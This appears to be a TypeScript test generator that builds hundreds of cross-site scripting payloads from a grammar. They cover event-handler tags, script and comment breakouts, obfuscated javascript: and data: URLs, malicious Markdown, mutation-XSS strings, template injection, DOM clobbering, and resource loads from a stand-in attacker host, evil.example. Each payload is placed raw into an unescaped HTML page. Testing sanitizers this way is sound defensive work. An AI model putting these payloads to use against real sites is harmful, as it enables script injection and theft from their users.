/**
 * Texts that want to become code, made from a grammar: what opens a context, what it does there, and how it is disguised. Each one that runs
 * calls `__xss` with its own number. None is copied from a list.
 */

/** Where a payload would run if it were put there raw; `none` where it is a template, a key or Markdown, which no browser reads. */
export type Place = "text" | "double" | "single" | "unquoted" | "address" | "script" | "style" | "comment" | "title" | "json" | "none";

export interface Payload {
  readonly number: number;
  readonly place: Place;
  readonly text: string;
}

type Maker = (js: string) => readonly (readonly [Place, string])[];

const spaces = [" ", "/", "\t", "\n", "\f", " \n "];
const quotes = ['"', "'", ""];

/** Elements that run what they are told as soon as they are there: how they begin, and the event. */
const events: readonly (readonly [string, string])[] = [
  ["img src=x", "onerror"],
  ["image src=x", "onerror"],
  ["svg", "onload"],
  ["body", "onload"],
  ["iframe", "onload"],
  ["iframe src=about:blank", "onload"],
  ["video src=x", "onerror"],
  ["audio src=x", "onerror"],
  ["video><source", "onerror"],
  ["details open", "ontoggle"],
  ["input autofocus", "onfocus"],
  ["select autofocus", "onfocus"],
  ["textarea autofocus", "onfocus"],
  ["button autofocus", "onfocus"],
  ["a tabindex=1 autofocus", "onfocus"],
  ["x tabindex=1 autofocus contenteditable", "onfocus"],
  ["style", "onload"],
  ["link rel=stylesheet href=/assets/style.css", "onload"],
  ["object data=x", "onerror"],
  ["embed src=/assets/icon.svg", "onload"],
  ["script src=x", "onerror"],
  ["svg><animate attributeName=x dur=1s", "onbegin"],
  ["svg><set attributeName=x dur=1s", "onbegin"],
  ["marquee", "onstart"],
  ["p style=animation:a", "onanimationstart"],
  ["input type=image src=x", "onerror"],
];

const selfRunning: Maker = (js) =>
  events.flatMap(([start, event]) =>
    spaces.flatMap((space, which) =>
      quotes.map((quote) => {
        const name = which % 2 === 0 ? event : [...event].map((letter, index) => (index % 2 === 0 ? letter.toUpperCase() : letter)).join("");
        return ["text", `<${start}${space}${name}=${quote}${js}${quote}${which % 3 === 2 ? " x=" : ">"}`] as const;
      }),
    ),
  );

const scripts: Maker = (js) => [
  ...["script", "SCRIPT", "ScRiPt", "script\n", "script/x", 'script type="text/javascript"', "script type=module", "svg><script", "math><script"].map(
    (start) => ["text", `<${start}>${js}</script>`] as const,
  ),
  ["text", `<script src="data:text/javascript,${js}"></script>`],
  ["text", `<svg><script href="data:text/javascript,${js}"/></svg>`],
  ["text", `<script>${js}//`],
  ["text", `<scr<script>ipt>${js}</scr</script>ipt>`],
  ["text", `<<script>${js}//<</script>`],
  ["text", `<iframe srcdoc="<script>${js}</script>"></iframe>`],
  ["text", `<iframe srcdoc="&lt;script&gt;${js}&lt;/script&gt;"></iframe>`],
  ["text", `<iframe src="javascript:${js}"></iframe>`],
  ["text", `<object data="javascript:${js}"></object>`],
  ["text", `<embed src="javascript:${js}">`],
  ["text", `<meta http-equiv="refresh" content="0;url=javascript:${js}">`],
  ["text", `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${js}</script>">`],
  ["text", `<form action="javascript:${js}"><button>x</button></form>`],
  ["text", `<button form=f formaction="javascript:${js}">x</button><form id=f></form>`],
  ["text", `<svg><a xlink:href="javascript:${js}"><text>x</text></a></svg>`],
  ["text", `<svg><use href="data:image/svg+xml,<svg id=a xmlns='http://www.w3.org/2000/svg'><image href=x onerror=${js} /></svg>#a"/></svg>`],
  ["text", `<math href="javascript:${js}">x</math>`],
  ["text", `<base href="javascript:${js}//"><a href=".">x</a>`],
  ["text", `<template><script>${js}</script></template><img src=x onerror=${js}>`],
  ["text", `<template shadowrootmode=open><img src=x onerror=${js}></template>`],
  ["text", `&lt;img src=x onerror=${js}&gt;`],
  ["text", `&#60;img src=x onerror=${js}&#62;`],
  ["text", `\ufeff<img src=x onerror=${js}>`],
  ["text", `<\u0000img src=x onerror=${js}>`],
  ["text", `<img src=x onerror\u0000=${js}>`],
  ["text", `\u202e<img src=x onerror=${js}>`],
  ["text", `<img src=x onerror=&#95;${js.slice(1)}>`],
  ["text", `＜img src=x onerror=${js}＞`],
];

/** Elements in which markup is text, and what would end them. */
const breakouts: Maker = (js) => {
  const raw = [
    "script",
    "style",
    "title",
    "textarea",
    "noscript",
    "template",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "plaintext",
    "select",
    "option",
    "svg",
    "math",
  ];
  const inside = [`<script>${js}</script>`, `<img src=x onerror=${js}>`, `<svg/onload=${js}>`, `<details open ontoggle=${js}>`];
  return [
    ...raw.flatMap((name, at) =>
      inside.flatMap((code, which) => [
        [
          name === "script" || name === "style" || name === "title" ? name : "text",
          `</${which === 1 ? name.toUpperCase() : name}${which === 2 ? " x" : ""}>${code}`,
        ] as const,
        ["text", `<${name}>${at % 2 === 0 ? "" : "x"}</${name}\n>${code}`] as const,
      ]),
    ),
    ...["-->", "--!>", "->", "]]>", "?>", "*/", "<!-->", "<!--->", "--><!--", "<![CDATA[", "<!DOCTYPE", "<!--x--!>", "]>"].flatMap((end) =>
      inside.map((code) => ["comment", `${end}${code}`] as const),
    ),
    ...["'", '"', "`", "\\'", '\\"', "';", '";', "\n", "\u2028", "\u2029", "\\u0027;", "${", "*/"].map((end) => ["script", `${end};${js};//`] as const),
    ["script", `"-${js}-"`],
    ["script", `\${${js}}`],
    ["json", `"}</script><script>${js}</script>`],
    ["json", `</ScRiPt ><img src=x onerror=${js}>`],
    ["json", `<!--<script>${js}</script>`],
    ["json", `\\u003c/script>\u2028${js}`],
  ];
};

const attributes: Maker = (js) => [
  ...events.flatMap(([start, event]) => [["double", `"><${start} ${event}=${js}>`] as const, ["single", `'><${start} ${event}=${js} `] as const]),
  ...(
    [
      ["double", '"'],
      ["single", "'"],
      ["unquoted", " "],
      ["double", "&quot;"],
      ["single", "&#39;"],
      ["double", '\\"'],
    ] as const
  ).flatMap(([place, end]) => [
    [place, `${end}><img src=x onerror=${js}>`] as const,
    [place, `${end}><script>${js}</script>`] as const,
    [place, `${end} autofocus onfocus=${js} x=${end}`] as const,
    [place, `x${end}onfocus=${js} autofocus y=${end}`] as const,
    [place, `${end} style=animation:a onanimationstart=${js} ${end}`] as const,
    [place, `${end}/><svg/onload=${js}>`] as const,
    [place, `${end} onmouseover=${js} tabindex=1 ${end}`] as const,
  ]),
];

const addresses: Maker = (js) => {
  const plain = `javascript:${js}`;
  const within = (mark: string, at: number) => plain.slice(0, at) + mark + plain.slice(at);
  return [
    plain,
    plain.toUpperCase().replace(js.toUpperCase(), js),
    `JaVaScRiPt:${js}`,
    ...["\t", "\n", "\r", "\r\n", "\u0000", "&Tab;", "&NewLine;", "&#9;", "&#x0A;", "%09", "\u00ad", "\u200b"].flatMap((mark) => [
      within(mark, 4),
      within(mark, 10),
    ]),
    ...[" ", "\u0001", "\u001f", "\t", "\u00a0", "\ufeff", "\u2003", "&#1;", "&#32;"].map((mark) => mark + plain),
    `&#106;avascript:${js}`,
    `&#x6A;avascript:${js}`,
    `&#0000106avascript:${js}`,
    `javascript&colon;${js}`,
    `javascript&#58;${js}`,
    `javascript%3A${js}`,
    `javascript://x.example/%0a${js}`,
    `javascript:%5f%5fxss(${js.slice(6, -1)})`,
    `javascript:/*x*/${js}//`,
    `javascript:void ${js}`,
    `view-source:${plain}`,
    `feed:${plain}`,
    `jar:${plain}`,
    `data:text/html,<script>${js}</script>`,
    `DATA:text/html;base64,${Buffer.from(`<script>${js}</script>`).toString("base64")}`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>`,
    `data:,${js}`,
    `vbscript:${js}`,
    `VbScRiPt:msgbox(${js})`,
    `blob:http://127.0.0.1/${js}`,
    `filesystem:http://127.0.0.1/${js}`,
    `file:///etc/passwd#${js}`,
    `livescript:${js}`,
    `mocha:${js}`,
    `\\\\evil.example\\${js}`,
    `//evil.example/${js}`,
    `/\\evil.example/${js}`,
    `https:evil.example/${js}`,
    `https://x.example/" onfocus=${js} autofocus "`,
    `https://x.example/' onfocus=${js} autofocus '`,
    `https://x.example/><img src=x onerror=${js}>`,
    `https://__proto__/${js}`,
    `https://constructor/${js}`,
    `mailto:a@x.example?subject="><img src=x onerror=${js}>`,
    `ｊavascript:${js}`,
  ].map((text) => ["address", text] as const);
};

/** Markdown that means well to its parser. `none`: only the archive itself reads Markdown. */
const markdown: Maker = (js) => {
  const target = `javascript:${js}`;
  return [
    `[a](${target})`,
    `[a](<${target}>)`,
    `[a]( ${target} "b")`,
    `![a](${target})`,
    `![a](https://evil.example/p.png "${js}")`,
    `[![a](x.png)](${target})`,
    `[a][b]\n\n[b]: ${target}`,
    `[a]\n\n[a]: <${target}> "t"`,
    `<${target}>`,
    `[a](java\tscript:${js})`,
    `[a](&#106;avascript:${js})`,
    `[a](javascript&colon;${js})`,
    `[a](java%0ascript:${js})`,
    `[a](data:text/html;base64,PHNjcmlwdD4=${js})`,
    `[a](//evil.example/${js})`,
    `[a](https://x.example/ "\\" autofocus onfocus=${js} x=\\"")`,
    `[a](https://x.example/ '" autofocus onfocus=${js} x="')`,
    `![a" onerror="${js}](x)`,
    `[a" onfocus="${js}" autofocus x="](https://x.example/)`,
    `a[^1]\n\n[^1]: <img src=x onerror=${js}>`,
    `a[^"onfocus=${js}]\n\n[^"onfocus=${js}]: b`,
    `\`\`\`"><img src=x onerror=${js}>\ncode\n\`\`\``,
    `\`<img src=x onerror=${js}>\``,
    `| <img src=x onerror=${js}> | b |\n|---|---|\n| [c](${target}) | d |`,
    `<div\nonclick=${js}\nonfocus=${js} autofocus tabindex=1>`,
    `<p title="x"\nonfocus="${js}" autofocus tabindex=1>`,
    `<a href="${target}">a</a>`,
    `<a href='java&#9;script:${js}'>a</a>`,
    `<a href="https://x.example/" title='" autofocus onfocus=${js} x="'>a</a>`,
    `<b title="<img src=x onerror=${js}>">a</b>`,
    `<details open title="a" ontoggle=${js}>`,
    `<q cite="${target}">a</q>`,
    `<!-- <img src=x onerror=${js}>`,
    `<!-- a --><img src=x onerror=${js}>`,
    `<![CDATA[<img src=x onerror=${js}>]]>`,
    `<?php <img src=x onerror=${js}> ?>`,
    `<!DOCTYPE html [<!ENTITY a "<img src=x onerror=${js}>">]>`,
    `https://x.example/"onfocus=${js}`,
    `www.x.example"><img src=x onerror=${js}>`,
    `a@x.example"onfocus=${js}`,
    `*<img src=x onerror=${js}>*`,
    `## <img src=x onerror=${js}>`,
    `> <script>${js}</script>`,
    `- <svg onload=${js}>`,
    `1. [a](${target})`,
    `<b><i><a href=${target}>x</b></i>`,
    `<table><tr><td><script>${js}</script>`,
    `<style>@import "https://evil.example/x.css";</style>`,
    `\\<img src=x onerror=${js}\\>`,
    `&lt;script&gt;${js}&lt;/script&gt;`,
    `<span lang='" onfocus=${js} autofocus'>a</span>`,
    `<ol type='1" onfocus=${js}' start="1><img src=x onerror=${js}>"><li>a</li></ol>`,
  ].map((text) => ["none", text] as const);
};

/** HTML that is one thing before it is written down and another when it is read again. */
const mutations: Maker = (js) => {
  const code = `<img src=x onerror=${js}>`;
  const hidden = `&lt;img src=x onerror=${js}&gt;`;
  return [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${hidden}">`,
    `<form><math><mtext></form><form><mglyph><style></math>${code}`,
    `<svg></p><style><a id="</style>${code}">`,
    `<svg><style><img title="</style>${code}">`,
    `<svg><desc><title><style><!--</style>${code}`,
    `<noscript><p title="</noscript>${code}">`,
    `<select><template><style><!--</style><a title="--></style></template></select>${code}">`,
    `<math><annotation-xml encoding="text/html"><style>${code}</style></annotation-xml></math>`,
    `<svg><foreignObject><p><style><!--</p>${code}`,
    `<p id="</title>${code}">`,
    `<b title="\`${code}">\`</b>`,
    `<a title='<!--' href='x'>--></a>${code}`,
    `<table><a><tr><td>${code}`,
    `<xmp><p title="</xmp>${code}">`,
    `<textarea><p title="</textarea>${code}">`,
    `${"<div>".repeat(200)}${code}`,
    `${"<b>".repeat(520)}${code}`,
  ].map((text) => ["text", text] as const);
};

/** What would ask another host for something. */
const requests: Maker = (js) => {
  const at = `evil.example/${js.replace(/\D/g, "")}`;
  return [
    `<img src=https://${at}>`,
    `<img src=//${at}>`,
    `<img srcset="https://${at} 1x">`,
    `<picture><source srcset=https://${at}><img src=x></picture>`,
    `<link rel=stylesheet href=https://${at}>`,
    `<link rel=preload as=image href=https://${at}>`,
    `<link rel=prefetch href=https://${at}>`,
    `<link rel=preconnect href=https://${at}>`,
    `<link rel=dns-prefetch href=//${at}>`,
    `<video poster=https://${at}></video>`,
    `<audio src=https://${at} autoplay></audio>`,
    `<iframe src=https://${at}></iframe>`,
    `<object data=https://${at}></object>`,
    `<embed src=https://${at}>`,
    `<base href=https://${at}/>`,
    `<meta http-equiv=refresh content="0;url=https://${at}">`,
    `<style>@import url(https://${at});</style>`,
    `<style>p{background:url(//${at})}</style>`,
    `<p style="background:url(https://${at})">x</p>`,
    `<table background=https://${at}>`,
    `<svg><image href=https://${at} /></svg>`,
    `<svg><use href=https://${at}#a /></svg>`,
    `<input type=image src=https://${at}>`,
    `<script src=https://${at}></script>`,
    `![x](https://${at})`,
    `[![x](https://${at})](https://${at})`,
    `<a href=https://x.example ping=https://${at}>x</a>`,
    `x{background:url(https://${at})}`,
    `red;background-image:url(https://${at})`,
    `}</style><img src=https://${at}>`,
    `expression(${js})`,
    `</style><svg/onload=${js}>`,
    `\\3c/style>${js}`,
  ].map((text) => [text.startsWith("<") ? "text" : text.startsWith("!") || text.startsWith("[") ? "none" : "style", text] as const);
};

/** What templates, lookups and the names of the document itself would take for their own. */
const names: Maker = (js) => [
  ...[
    `<%= ${js} %>`,
    `<%~ "<img src=x onerror=${js}>" %>`,
    `<% ${js} %>`,
    `<%- ${js} -%>`,
    `%><img src=x onerror=${js}><%`,
    "<%= it.constructor.constructor('return process')() %>",
    "<%~ include('layout') %>",
    "<%",
    "%>",
    `{{${js}}}`,
    `{{{${js}}}}`,
    `{%${js}%}`,
    `$\{${js}}`,
    `#{${js}}`,
    "{title} {n} {constructor} {__proto__}",
    "$& $1 $` $' $$",
    ...[
      "__proto__",
      "constructor",
      "prototype",
      "toString",
      "hasOwnProperty",
      "valueOf",
      "body",
      "__blocks",
      "links",
      "pieces",
      "it",
      "null",
      "undefined",
      "NaN",
      "true",
      "[object Object]",
    ],
  ].map((text) => ["none", text] as const),
  ...["body", "forms", "getElementById", "documentElement", "cookie", "location", "__xss", "head", "title", "defaultView"].flatMap((name) => [
    ["text", `<a id=${name} name=${name} href=x>a</a>`] as const,
    ["none", `## ${name}`] as const,
    ["text", `<form id=${name} name=${name}><input name=attributes><input name=innerHTML></form>`] as const,
  ]),
];

const makers = [scripts, attributes, addresses, breakouts, markdown, mutations, requests, names, selfRunning];

/**
 * All payloads, in turn from each part of the grammar, so that a beginning of the list is a fair sample.
 *
 * @param most how many at most
 */
export function payloads(most = Number.POSITIVE_INFINITY): readonly Payload[] {
  const mark = "__xss(0)";
  const columns = makers.map((make) => make(mark));
  const longest = Math.max(...columns.map((column) => column.length));
  const seen = new Set<string>();
  const mixed = Array.from({ length: longest }, (_, row) => columns.flatMap((column) => (column[row] === undefined ? [] : [column[row]])))
    .flat()
    .filter(([, text]) => !seen.has(text) && seen.add(text));
  return mixed.slice(0, most).map(([place, text], number) => ({ number, place, text: text.replaceAll(mark, `__xss(${number})`) }));
}

/** A page in which the payload stands raw, as a program that does not escape would put it. Null where no browser reads such a thing. */
export function rawPage({ place, text }: Payload): string | null {
  const page = (body: string) => `<!DOCTYPE html><html><head><meta charset="utf-8"><style>@keyframes a{}</style></head><body>${body}</body></html>`;
  switch (place) {
    case "text":
      return page(`<p>${text}</p>`);
    case "double":
      return page(`<input value="${text}">`);
    case "single":
      return page(`<input value='${text}'>`);
    case "unquoted":
      return page(`<input value=${text}>`);
    case "address":
      return page(`<a href="${text}">x</a>`);
    case "script":
      return page(`<script>var a = "${text}";</script><script>var b = '${text}';</script>`);
    case "style":
      return page(`<style>p{color:${text}}</style><p>x</p>`);
    case "comment":
      return page(`<!-- ${text} -->`);
    case "title":
      return page(`<svg></svg>`).replace("<meta", `<title>${text}</title><meta`);
    case "json":
      return page(`<script type="application/json">{"a":"${text}"}</script>`);
    default:
      return null;
  }
}
